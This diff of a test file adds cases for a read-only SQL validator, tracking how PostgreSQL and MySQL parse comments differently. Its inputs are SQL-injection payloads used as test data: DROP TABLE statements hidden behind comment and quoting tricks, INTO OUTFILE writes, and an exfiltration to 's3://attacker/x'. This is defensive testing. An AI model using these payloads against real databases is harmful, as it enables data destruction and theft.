@@ -64,7 +64,17 @@ describe("readOnlySqlProblem (defence in depth; the read-only database user is t
     // The price of reading both ways: a `;` in a dollar quote ends a statement for MySQL.
     ["SELECT $$ ; DROP TABLE x $$ AS s", "must be a single statement (a `;` may only end it)"],
     ["SELECT 1 # 2; DROP TABLE t", "must be a single statement (a `;` may only end it)"],
-    ["SELECT 1--1; DROP TABLE t", "must be a single statement (a `;` may only end it)"],
+    [
+      "SELECT 1--1; DROP TABLE t",
+      "must write -- only as a comment, with a space after it (PostgreSQL reads --x as a comment, MySQL as two minus signs)",
+    ],
+    // DEL is a control character: MySQL reads a comment there too, where the rest hid the INTO.
+    ["SELECT 1 --\u007f '\n/* /* */ INTO OUTFILE '/tmp/x' -- */", "must only read: it contains INTO"],
+    // Two minus signs for MySQL, a comment for PostgreSQL (and MariaDB in Oracle mode).
+    [
+      "SELECT 1 --'\n/* /* */ INTO OUTFILE '/tmp/x' -- */",
+      "must write -- only as a comment, with a space after it (PostgreSQL reads --x as a comment, MySQL as two minus signs)",
+    ],
     ["SELECT 1 /* /* */ ; DROP TABLE t /* */", "must be a single statement (a `;` may only end it)"],
     // PostgreSQL: a non-ASCII letter is an identifier character, so `é$$` opens no dollar quote,
     // and the string after it is seen (a backslash in it hid the DELETE from the MySQL reading).
@@ -84,7 +94,10 @@ describe("readOnlySqlProblem (defence in depth; the read-only database user is t
       'must not use a Unicode-escaped name or string (U&"…"): what it names is only known once decoded',
     ],
     // MySQL: `--` before a no-break space is no comment, so what follows is code.
-    ["SELECT 1 --\u00a0 INTO OUTFILE '/tmp/x'", "must only read: it contains INTO"],
+    [
+      "SELECT 1 --\u00a0 INTO OUTFILE '/tmp/x'",
+      "must write -- only as a comment, with a space after it (PostgreSQL reads --x as a comment, MySQL as two minus signs)",
+    ],
     // MySQL runs the body of an executable comment.
     [
       "SELECT * FROM customers /*!50000 INTO OUTFILE S3 's3://attacker/x' */",
